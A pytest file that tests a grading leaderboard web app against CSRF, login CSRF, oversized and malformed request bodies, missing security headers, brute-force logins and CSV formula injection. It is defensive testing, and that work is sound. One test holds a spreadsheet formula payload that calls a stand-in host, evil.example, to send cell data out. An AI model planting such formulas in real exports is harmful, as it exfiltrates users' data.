"""Attacks on the leaderboard, each run against the app: the status and message it now gets, and that nothing was
stored or counted. CSRF from another origin/site, login CSRF, JSON under another content type, bodies too large
(anonymous, over Content-Length, streamed without it), 500s on odd ids/JSON/forms, security headers and cookies,
formula injection, throttling, and the caches of costly pages."""
import asyncio
import csv
import io
import time
import warnings

import pytest

from grader.leaderboard.app import create_app
from grader.leaderboard.service import Leaderboard
from grader.leaderboard.store import Store

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

from .conftest import cookie_login, csv_bytes, make_cfg, noisy_scores, page_csrf

CROSS = "Cross-site request refused"
EXPIRED = "This form has expired or was not sent from the leaderboard"


def build(key, key_path, clock, tmp_path, **cfg):
    url = f"sqlite:///{tmp_path / 'lb.sqlite3'}"
    lb = Leaderboard(make_cfg(key_path, url, **cfg), store=Store(url), key=key, clock=clock,
                     admin_token="admin-secret")
    res = lb.import_roster("id,name,email,nickname\nalice,Alice A,a@x,\nbob,Bob B,b@x,Bobby\n".encode())
    lb.tokens = {i.login: i.token for i in res.issued}
    return lb


@pytest.fixture
def lb(key, key_path, clock, tmp_path):
    board = build(key, key_path, clock, tmp_path)
    yield board
    board.store.close()


@pytest.fixture
def app(lb):
    return create_app(lb)


def browser(app, lb, who="alice") -> tuple[TestClient, str]:
    """A client logged in by cookie, as a browser is, and the CSRF token its pages carry."""
    c = TestClient(app, follow_redirects=False)
    cookie_login(c, lb.tokens[who])
    return c, page_csrf(c.get("/me").text)


def bearer(app, lb, who="alice") -> TestClient:
    c = TestClient(app, follow_redirects=False)
    c.headers["Authorization"] = f"Bearer {lb.tokens[who]}"
    return c


def stored(lb, who="alice") -> int:
    return len(lb.store.uploads.counted(lb.authenticate(lb.tokens[who]).id))


def good_file(key, seed=1) -> bytes:
    return csv_bytes(noisy_scores(key, 0.5, seed))


# ------------------------------------------------------------------------------------------------------- CSRF
@pytest.mark.parametrize("headers", [
    {"Origin": "http://127.0.0.1:9999"},                              # a page on another port
    {"Origin": "http://evil.testserver", "Sec-Fetch-Site": "same-site"},   # a sibling subdomain: same site
    {"Sec-Fetch-Site": "cross-site"},
    {"Origin": "null", "Sec-Fetch-Site": "cross-site"},                # a sandboxed frame elsewhere
], ids=["other-port", "sibling-subdomain", "cross-site", "null-origin"])
def test_cross_origin_forms_are_refused_before_reading(app, lb, key, headers):
    c, csrf = browser(app, lb)
    r = c.post("/submit", data={"csrftoken": csrf}, files={"file": ("p.csv", good_file(key), "text/csv")},
               headers=headers)
    assert r.status_code == 403 and CROSS in r.text
    r = c.post("/select", data={"csrftoken": csrf, "ids": "1"}, headers=headers)
    assert r.status_code == 403 and CROSS in r.text
    r = c.post("/api/selection", json={"ids": []}, headers={**headers, "X-CSRFToken": csrf})
    assert r.status_code == 403 and CROSS in r.json()["error"]
    assert stored(lb) == 0 and lb.page(lb.authenticate(lb.tokens["alice"])).left_today == 5


def test_forms_without_the_csrf_token_are_refused(app, lb, key):
    """No Origin header at all (an old browser, or a tool): the double-submit token decides."""
    c, csrf = browser(app, lb)
    v = lb.submit(lb.authenticate(lb.tokens["alice"]), "mine.csv", good_file(key, 2))
    lb.select(lb.authenticate(lb.tokens["alice"]), [v.id])
    junk = c.post("/submit", files={"file": ("junk.csv", good_file(key, 3), "text/csv")})
    assert junk.status_code == 403 and EXPIRED in junk.text
    forged = "AAAAAAAAAAAAAAAAAAAAAAAA.AAAAAAAAAAAAAAAAAAAAAAAA"      # right shape, not signed by this server
    c.cookies.set("csrftoken", forged)
    r = c.post("/submit", data={"csrftoken": forged}, files={"file": ("junk.csv", good_file(key, 3), "text/csv")})
    assert r.status_code == 403 and EXPIRED in r.text
    c.cookies.set("csrftoken", csrf)
    r = c.post("/select", data={"csrftoken": "wrong", "ids": []})
    assert r.status_code == 403
    # Cross-site JSON: a text/plain body to /api/selection with only the cookie. Refused; nothing changed.
    r = c.post("/api/selection", content=b'{"ids": []}', headers={"Content-Type": "text/plain"})
    assert r.status_code == 415 and "application/json" in r.json()["error"]
    r = c.post("/api/selection", json={"ids": []})                   # JSON, but no token: a page can't add one
    assert r.status_code == 403
    assert [s.id for s in lb.store.uploads.counted() if s.selected] == [v.id] and stored(lb) == 1
    # The same student's own pages work: the token from the page, same origin.
    ok = c.post("/select", data={"csrftoken": csrf, "ids": []}, headers={"Origin": "http://testserver"})
    assert ok.status_code == 303 and not any(s.selected for s in lb.store.uploads.counted())


def test_login_csrf_needs_a_button_press_on_this_site(app, lb):
    """A cross-site page cannot log the victim into the attacker's account: the link only asks, and the POST it
    would need is refused without this site's token or from another origin."""
    victim = TestClient(app, follow_redirects=False)
    r = victim.get(f"/login/{lb.tokens['bob']}")                 # e.g. an <img src> on the attacker's page
    assert r.status_code == 200 and "lb_token" not in r.headers.get("set-cookie", "")
    r = victim.post("/login", data={"token": lb.tokens["bob"]})
    assert r.status_code == 403 and "lb_token" not in r.headers.get("set-cookie", "")
    page = victim.get("/login")
    r = victim.post("/login", data={"token": lb.tokens["bob"], "csrftoken": page_csrf(page.text)},
                    headers={"Origin": "https://attacker.example"})
    assert r.status_code == 403 and victim.get("/me").status_code == 303


def test_bearer_clients_need_no_csrf_token_and_cookies_are_ignored_then(app, lb, key):
    c = bearer(app, lb)
    assert c.post("/api/submissions", files={"file": ("p.csv", good_file(key), "text/csv")}).status_code == 201
    # With an Authorization header only that header counts: a valid cookie does not rescue a bad bearer token.
    b, _ = browser(app, lb, "bob")
    r = b.post("/api/submissions", files={"file": ("p.csv", good_file(key), "text/csv")},
               headers={"Authorization": "Bearer not-a-token"})
    assert r.status_code == 401 and stored(lb, "bob") == 0


# ------------------------------------------------------------------------------------------ limits before body
def asgi(app, method: str, path: str, headers: dict, chunks: list[bytes]) -> tuple[int, dict, bytes, int]:
    """Call the ASGI app directly with the body in ``chunks``; returns (status, headers, body, bytes it read)."""
    read = {"n": 0}
    queue = list(chunks)
    out = {"status": None, "headers": {}, "body": b""}

    async def receive():
        if queue:
            part = queue.pop(0)
            read["n"] += len(part)
            return {"type": "http.request", "body": part, "more_body": bool(queue)}
        await asyncio.sleep(0)
        return {"type": "http.disconnect"}

    async def send(message):
        if message["type"] == "http.response.start":
            out["status"] = message["status"]
            out["headers"] = {k.decode(): v.decode() for k, v in message["headers"]}
        elif message["type"] == "http.response.body":
            out["body"] += message.get("body", b"")

    scope = {"type": "http", "method": method, "path": path, "raw_path": path.encode(), "query_string": b"",
             "root_path": "", "scheme": "http", "server": ("testserver", 80), "client": ("10.0.0.1", 5000),
             "http_version": "1.1", "asgi": {"version": "3.0"},
             "headers": [(k.lower().encode(), v.encode("latin-1")) for k, v in headers.items()]}
    asyncio.run(app(scope, receive, send))
    return out["status"], out["headers"], out["body"], read["n"]


MB = 1 << 20


def test_anonymous_huge_post_is_refused_without_reading_it(app):
    chunks = [b"x" * MB] * 500                                         # 500 MB, offered 1 MB at a time
    status, headers, body, read = asgi(app, "POST", "/api/submissions",
                                       {"content-type": "multipart/form-data; boundary=b",
                                        "content-length": str(500 * MB)}, chunks)
    assert status == 401 and b"missing or unknown token" in body and read == 0
    status, _, body, read = asgi(app, "POST", "/submit", {"content-type": "multipart/form-data; boundary=b"},
                                 chunks)
    assert status == 303 and read == 0                                 # a page: to the login form, unread


def test_oversized_bodies_get_413_with_their_real_size(app, lb):
    auth = {"authorization": f"Bearer {lb.tokens['alice']}", "content-type": "multipart/form-data; boundary=b"}
    status, _, body, read = asgi(app, "POST", "/api/submissions", {**auth, "content-length": str(500 * MB)},
                                 [b"x" * MB] * 500)
    assert status == 413 and read == 0
    assert "the upload is 524.3 MB, over the 1.0 MB limit" in body.decode()
    # No Content-Length (chunked): counted as it streams; stops soon after the limit.
    status, _, body, read = asgi(app, "POST", "/api/submissions", auth, [b"x" * MB] * 20)
    assert status == 413 and read <= 2 * MB and "over the 1.0 MB limit" in body.decode()
    # A 20 MB JSON selection: refused on its Content-Length, nothing read or parsed.
    status, _, body, read = asgi(app, "POST", "/api/selection",
                                 {"authorization": auth["authorization"], "content-type": "application/json",
                                  "content-length": str(20 * MB)}, [b"[" * MB] * 20)
    assert status == 413 and read == 0 and "over the 4,096 bytes" in body.decode()
    assert stored(lb) == 0


def test_a_lying_content_length_is_caught_while_streaming(app, lb):
    auth = {"authorization": f"Bearer {lb.tokens['alice']}", "content-type": "application/json",
            "content-length": "10"}
    status, _, body, read = asgi(app, "POST", "/api/selection", auth, [b" " * 1024] * 8)
    assert status == 413 and read <= 5 * 1024


@pytest.mark.parametrize("path", ["/submissions/9223372036854775808", "/submissions/9223372036854775808/roc.png",
                                  "/submissions/9223372036854775808/download", "/submissions/0",
                                  "/submissions/-1", "/submissions/1e3", "/api/submissions/9223372036854775808",
                                  "/api/submissions/99999999999999999999999"])
def test_out_of_range_submission_ids_are_404(app, lb, path):
    r = bearer(app, lb).get(path)
    assert r.status_code == 404
    assert "No such submission among yours" in r.text


@pytest.mark.parametrize("body, status, words", [
    (b'{"ids": [1e400]}', 400, "valid integer"),
    (b'{"ids": [1.0]}', 400, "valid integer"),
    (b'{"ids": ["1"]}', 400, "valid integer"),
    (b'{"ids": [9223372036854775808]}', 400, "less than or equal to 9223372036854775807"),
    (b'{"ids": 5}', 400, "valid list"),
    (b'{"ids": []', 400, "JSON"),
    (b"[" * 1000 + b"]" * 1000, 400, "nested more than 3 levels"),
    (b'{"ids": [[[[1]]]]}', 400, "nested more than 3 levels"),
    (b'{"ids": [], "extra": 1}', 400, "Extra inputs"),
    (b"\xff\xfe", 400, "JSON"),
], ids=["1e400", "float", "string", "int64+1", "not-a-list", "truncated", "deep", "deep-small", "extra", "binary"])
def test_bad_selection_json_is_400_with_the_shape_expected(app, lb, body, status, words):
    r = bearer(app, lb).post("/api/selection", content=body, headers={"Content-Type": "application/json"})
    assert r.status_code == status, r.text
    assert words in r.json()["error"]
    if "nested" not in words:      # the shape is named whenever the JSON was parsed
        assert 'body must be JSON {"ids": [submission ids]}' in r.json()["error"]


def test_odd_forms_are_400_with_a_message_never_500(app, lb, key):
    c, csrf = browser(app, lb)
    # A file part named "ids" in the selection form (500 before).
    r = c.post("/select", data={"csrftoken": csrf}, files={"ids": ("x.csv", b"1", "text/csv")})
    assert r.status_code == 400 and "field &#39;ids" in r.text
    # The upload form with no file: the student's page with a sentence, not FastAPI's JSON.
    r = c.post("/submit", data={"csrftoken": csrf}, files={"file": ("", b"", "application/octet-stream")})
    assert r.status_code == 400 and "No file was chosen" in r.text and "text/html" in r.headers["content-type"]
    r = bearer(app, lb).post("/api/submissions", files={"other": ("p.csv", good_file(key), "text/csv")})
    assert r.status_code == 400 and "multipart form field 'file'" in r.json()["error"]
    r = bearer(app, lb).post("/api/submissions", files=[("file", ("p.csv", b"a", "text/csv"))] * 9)
    assert r.status_code == 400 and "more than 4 parts" in r.json()["error"]
    r = bearer(app, lb).post("/api/submissions", content=b"--x\r\n", headers={"Content-Type": "multipart/form-data"})
    assert r.status_code == 400 and "no multipart boundary" in r.json()["error"]
    r = bearer(app, lb).post("/api/submissions", content=b"garbage", headers={
        "Content-Type": "multipart/form-data; boundary=zz"})
    assert r.status_code == 400
    r = bearer(app, lb).get("/api/board?split=secret")
    assert r.status_code == 400 and "query parameter 'split'" in r.json()["error"]
    r = TestClient(app).get("/nowhere")
    assert r.status_code == 404 and "There is no page at this address" in r.text
    assert stored(lb) == 0


def test_an_unreadable_cookie_header_is_400(app):
    status, _, body, _ = asgi(app, "GET", "/", {"cookie": "lb_token=\xff\xfe"}, [])
    assert status == 400 and b"Cookie header cannot be read" in body


def test_non_latin1_ids_in_a_roster_reimport_return_every_token(app, lb):
    """A non-Latin-1 id (李雷) already on the roster goes into no response header: a re-import answers with every
    token, not a 500 after the new students were committed."""
    lb.import_roster("id,name\n李雷,Li Lei\n".encode())
    ta = TestClient(app, follow_redirects=False)
    ta.headers["Authorization"] = "Bearer admin-secret"
    ta.headers["X-CSRFToken"] = page_csrf(ta.get("/admin").text)      # a form route: the token is needed
    r = ta.post("/admin/roster", files={"file": ("r.csv", "id,name\n李雷,Li Lei\nzoë,Zoë Z\n".encode(), "text/csv")})
    assert r.status_code == 200 and r.headers["x-skipped-students"] == "1"
    (row,) = list(csv.DictReader(io.StringIO(r.text)))
    assert row["id"] == "zoë" and lb.authenticate(row["token"]).login == "zoë"
    # A token that went missing anyway is reissued; the old one stops working.
    old = row["token"]
    st = lb.authenticate(old)
    r = ta.post(f"/admin/students/{st.id}/reissue")
    (new,) = list(csv.DictReader(io.StringIO(r.text)))
    assert lb.authenticate(old) is None and lb.authenticate(new["token"]).login == "zoë"


# --------------------------------------------------------------------------------------- headers and cookies
def test_security_headers_on_every_kind_of_response(app, lb):
    c = TestClient(app, follow_redirects=False)
    for r in (c.get("/"), c.get("/login"), c.get("/api/board"), c.get("/me"), c.get("/nowhere"),
              c.post("/api/selection", json={"ids": []}), bearer(app, lb).get("/api/me")):
        h = r.headers
        assert "default-src 'none'" in h["content-security-policy"] and "frame-ancestors 'none'" in \
            h["content-security-policy"] and "'unsafe-inline'" not in h["content-security-policy"]
        assert h["x-frame-options"] == "DENY" and h["x-content-type-options"] == "nosniff"
        assert h["referrer-policy"] == "same-origin" and h["cache-control"] == "no-store"
        assert "strict-transport-security" not in h                  # plain http: no HSTS
    assert c.get("/static/style.css").headers["cache-control"].startswith("public")
    page = c.get("/").text
    assert "<script>" not in page and "style=" not in page            # nothing inline for the CSP to allow


def test_behind_https_cookies_are_secure_host_only_and_links_absolute(key, key_path, clock, tmp_path):
    lb = build(key, key_path, clock, tmp_path, public_url="https://hw8.example.edu")
    app = create_app(lb)
    c = TestClient(app, base_url="https://hw8.example.edu", follow_redirects=False)
    page = c.get(f"/login/{lb.tokens['alice']}")
    assert page.headers["strict-transport-security"].startswith("max-age=")
    csrf_cookie = page.headers["set-cookie"]
    assert csrf_cookie.startswith("__Host-csrftoken=") and "Secure" in csrf_cookie and "SameSite=Strict" in \
        csrf_cookie and "Domain" not in csrf_cookie
    r = c.post("/login", data={"token": lb.tokens["alice"], "csrftoken": page_csrf(page.text)},
               headers={"Origin": "https://hw8.example.edu"})
    assert r.status_code == 303 and r.headers["location"] == "https://hw8.example.edu/me"
    session = r.headers["set-cookie"]
    assert session.startswith("__Host-lb_token=") and "Secure" in session and "HttpOnly" in session
    assert TestClient(app, follow_redirects=False).get("/me").headers["location"] == \
        "https://hw8.example.edu/login"
    res = lb.import_roster(b"id,name\ncarl,Carl\n")
    assert f"https://hw8.example.edu/login/{res.issued[0].token}" in res.csv_text
    lb.store.close()


# ------------------------------------------------------------------------------------------ formula injection
def test_spreadsheet_formulas_in_names_are_escaped_in_every_ta_file(app, lb, key):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    roster = io.StringIO()
    csv.writer(roster).writerows([["id", "name", "email"], ["+mallory", evil, "@x"]])
    res = lb.import_roster(roster.getvalue().encode())
    assert next(csv.reader(io.StringIO(res.csv_text.splitlines()[1]))) [:3] == ["'+mallory", "'" + evil, "'@x"]
    st = lb.authenticate(res.issued[0].token)
    lb.submit(st, "-p.csv", good_file(key))
    for text in (lb.export_leaderboard_csv(), lb.export_baselines_csv()):
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert "'" + evil in cells and evil not in cells and "'+mallory" in cells
        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
        assert not any(c.startswith("-") and not c[1:2].isdigit() for c in cells)   # numbers stay numbers


def test_tokens_in_the_tokens_csv_work_as_written(lb):
    """Cells starting with '-' are escaped for spreadsheets, so no token may start with one (1 in 32 would)."""
    res = lb.import_roster(("id,name\n" + "".join(f"t{i},T{i}\n" for i in range(300))).encode())
    rows = list(csv.DictReader(io.StringIO(res.csv_text)))
    assert all(r["token"][0].isalnum() for r in rows)
    assert [lb.authenticate(r["token"]).login for r in rows[:20]] == [f"t{i}" for i in range(20)]
    assert all(r["login_url"].endswith("/login/" + r["token"]) for r in rows)


# ---------------------------------------------------------------------------------------------- throttling
def test_failed_logins_are_throttled_per_address(key, key_path, clock, tmp_path):
    lb = build(key, key_path, clock, tmp_path, rate_login="3/minute")
    c = TestClient(create_app(lb), follow_redirects=False)
    csrf = page_csrf(c.get("/login").text)
    codes = [c.post("/login", data={"token": f"guess{i}", "csrftoken": csrf}).status_code for i in range(4)]
    assert codes == [401, 401, 401, 429]
    r = c.post("/login", data={"token": "guess5", "csrftoken": csrf})
    assert r.status_code == 429 and "Too many failed logins" in r.text and int(r.headers["retry-after"]) > 0
    assert c.get("/login/guess6").status_code == 429                  # the link page is an oracle too
    # The token is checked first: a student behind the same address (a campus NAT) still gets in.
    assert c.get(f"/login/{lb.tokens['alice']}").status_code == 200
    assert c.post("/login", data={"token": lb.tokens["alice"], "csrftoken": csrf}).status_code == 303
    lb.store.close()


def test_costly_pages_are_throttled_per_student_and_cached(key, key_path, clock, tmp_path):
    lb = build(key, key_path, clock, tmp_path, rate_pages="4/minute")
    app = create_app(lb)
    sid = lb.submit(lb.authenticate(lb.tokens["alice"]), "a.csv", good_file(key)).id
    c = bearer(app, lb)
    t = time.perf_counter()
    first = c.get(f"/submissions/{sid}/roc.png")
    cold = time.perf_counter() - t
    t = time.perf_counter()
    again = [c.get(f"/submissions/{sid}/roc.png") for _ in range(3)]
    warm = (time.perf_counter() - t) / 3
    assert first.status_code == 200 and all(r.content == first.content for r in again)
    assert warm < cold                                                # drawn once, then served from the cache
    r = c.get(f"/submissions/{sid}/roc.png")
    assert r.status_code == 429 and "Too many requests for submission pages" in r.text
    assert bearer(app, lb, "bob").get("/api/me").status_code == 200   # per student: bob is not slowed
    lb.store.close()


def test_invalid_uploads_count_toward_the_upload_rate_not_the_daily_limit(key, key_path, clock, tmp_path):
    lb = build(key, key_path, clock, tmp_path, rate_upload="3/minute")
    c = bearer(create_app(lb), lb)
    codes = [c.post("/api/submissions", files={"file": ("p.csv", b"ID,score\n0,x\n", "text/csv")}).status_code
             for _ in range(4)]
    assert codes == [422, 422, 422, 429]
    assert lb.page(lb.authenticate(lb.tokens["alice"])).left_today == 5
    lb.store.close()


# ------------------------------------------------------------------------------------------- number grammar
@pytest.mark.parametrize("score", ["1_000", "١٢", "１２"], ids=["underscore", "arabic-indic", "full-width"])
def test_scores_outside_plain_ascii_decimals_are_refused(lb, key, score):
    data = ("ID,score\n" + "".join(f"{i},{score if i == 1 else '0.5'}\n" for i in range(len(key)))).encode()
    r = bearer(create_app(lb), lb).post("/api/submissions", files={"file": ("p.csv", data, "text/csv")})
    assert r.status_code == 422
    assert "digits" in r.json()["error"] and r.json()["line"] == 3
    assert stored(lb) == 0
